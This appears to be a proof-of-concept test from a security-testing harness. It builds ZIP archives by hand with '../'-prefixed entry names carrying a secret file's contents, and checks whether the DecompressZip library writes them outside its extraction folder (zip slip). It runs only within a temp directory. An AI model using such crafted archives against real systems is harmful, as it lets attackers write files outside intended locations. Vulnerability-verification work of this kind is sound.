// PoC (zip slip): entries '../escaped.txt' and (separately) '../out-sibling/escaped.txt' carry the secret;
// return whatever lands outside the target folder.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const zlib = require('node:zlib');
const ase = require(process.env.ASE_HELPERS + '/poc.cjs');

function zip(entries) {

  const locals = []; const centrals = []; let offset = 0;
  for (const [name, data] of entries) {
    const n = Buffer.from(name); const d = Buffer.from(data); const crc = zlib.crc32(d);
    const h = Buffer.alloc(30); h.writeUInt32LE(0x04034b50, 0); h.writeUInt16LE(20, 4);
    h.writeUInt32LE(crc, 14); h.writeUInt32LE(d.length, 18); h.writeUInt32LE(d.length, 22); h.writeUInt16LE(n.length, 26);
    const c = Buffer.alloc(46); c.writeUInt32LE(0x02014b50, 0); c.writeUInt16LE(20, 4); c.writeUInt16LE(20, 6);
    c.writeUInt32LE(crc, 16); c.writeUInt32LE(d.length, 20); c.writeUInt32LE(d.length, 24); c.writeUInt16LE(n.length, 28); c.writeUInt32LE(offset, 42);
    c.writeUInt16LE(0x0314, 4); c.writeUInt32LE(((name.endsWith('/') ? 0o40755 : 0o100644) << 16) >>> 0, 38); // unix modes
    locals.push(h, n, d); centrals.push(c, n); offset += 30 + n.length + d.length;
  }
  const cd = Buffer.concat(centrals); const e = Buffer.alloc(22); e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(entries.length, 8); e.writeUInt16LE(entries.length, 10); e.writeUInt32LE(cd.length, 12); e.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, e]);
}

ase.pathTraversal(async ({ secretPath }) => {
  const DecompressZip = require(process.env.ASE_REPO);
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'zipslip-'));
  const dest = path.join(base, 'out');
  const secret = fs.readFileSync(secretPath);
  // two archives: one rejected entry aborts a whole extraction, so the sibling case goes alone
  const archives = [[['ok.txt', 'fine'], ['../escaped.txt', secret]], [['ok.txt', 'fine'], ['../out-sibling/escaped.txt', secret]]];
  for (const [i, entries] of archives.entries()) {
    const file = path.join(base, `evil${i}.zip`);
    fs.writeFileSync(file, zip(entries));
    await new Promise((resolve) => {
      const z = new DecompressZip(file);
      z.on('extract', resolve);
      z.on('error', resolve);
      z.extract({ path: dest });
      setTimeout(resolve, 5000);
    });
  }
  const outside = [path.join(base, 'escaped.txt'), path.join(base, 'out-sibling', 'escaped.txt')];
  return outside.filter((p) => fs.existsSync(p)).map((p) => fs.readFileSync(p));
});
